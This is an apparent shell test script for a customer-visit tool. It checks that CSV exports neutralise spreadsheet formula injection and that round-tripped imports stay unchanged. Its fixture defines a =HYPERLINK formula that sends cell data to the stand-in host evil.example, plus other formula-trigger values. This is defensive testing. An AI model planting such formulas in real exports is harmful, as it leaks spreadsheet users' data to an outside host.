#!/bin/sh
# Hostile input and careless set-ups: spreadsheet formulas in CSV, image
# bombs, terminal escapes, over-long fields, NUL and BOM in imports,
# signals while loading, an untrusted ./.env, frames from the future and
# mail settings cron will not see.
. "$(dirname "$0")/lib.sh"

EVIL='=HYPERLINK("http://evil.example/?x="&A1,"Click")'

# csv_cell FILE ROW COL: the decoded cell (rows and columns from 1).
csv_cell() {
	csv_decode "$1" | awk -F "$tab" -v r="$2" -v c="$3" 'NR == r { print $c }'
}

for store in $(test_stores); do
mkdir "$TEST_DIR/$store"
cd "$TEST_DIR/$store" || exit 1
use_store "$store"

test_expect_success "$store: a formula-like customer and a visit" '
	ft-enroll add --name "$EVIL" --email "+1@evil.example" >c.json &&
	id=$(store_sql "SELECT id FROM customers") &&
	store_sql "INSERT INTO visits (customer_id, ts, source)
		   VALUES ($id, $(ms_of 2026-11-23T10:00:00Z), '\''@cam'\'')"
'

test_expect_success "$store: ft-report neutralises text cells, not counts" '
	ft-report --yesterday >path &&
	f=$(cat path) &&
	test_eq "$(csv_cell "$f" 2 2)" "'\''$EVIL" name &&
	test_eq "$(csv_cell "$f" 2 3)" "'\''+1@evil.example" email &&
	test_eq "$(csv_cell "$f" 2 5)" "'\''@cam" source &&
	test_eq "$(csv_cell "$f" 2 6)" 1 number &&
	ft-report --yesterday --summary >path &&
	f=$(cat path) &&
	test_eq "$(csv_cell "$f" 2 2)" "'\''$EVIL" summary-name &&
	test_eq "$(csv_cell "$f" 2 4)" 1 visits
'

test_expect_success "$store: ft-query --format csv neutralises strings only" '
	ft-query visits --format csv \
		--jq ".d = -1.5 | .e = \"-1.5\" | .q = \"'\'''\''=x\"" \
		>v.csv &&
	csv_decode v.csv >got &&
	head -1 got | tr "$tab" "\n" >cols &&
	col() { awk -v k="$1" "\$0 == k { print NR }" cols; } &&
	test_eq "$(csv_cell v.csv 2 $(col name))" "'\''$EVIL" name &&
	test_eq "$(csv_cell v.csv 2 $(col source))" "'\''@cam" source &&
	test_eq "$(csv_cell v.csv 2 $(col d))" "-1.5" number &&
	test_eq "$(csv_cell v.csv 2 $(col e))" "'\''-1.5" string &&
	test_eq "$(csv_cell v.csv 2 $(col q))" "'\'''\'''\''=x" quoted
'

test_expect_success "$store: importing what was written adds no quotes" '
	ft-query customers --format csv \
		--jq "{name, email, notes: \"'\''=x\"}" >c.csv &&
	ft-enroll import c.csv >new.json &&
	test_eq "$(json_get new.json .name)" "$EVIL" name &&
	test_eq "$(json_get new.json .email)" "+1@evil.example" email &&
	test_eq "$(json_get new.json .notes)" "'\''=x" notes &&
	ft-query customers --format csv \
		--jq "select(.id == \"$(json_get new.json .id)\") |
		      {name, email, notes}" >again.csv &&
	test_cmp c.csv again.csv
'
done

test_done
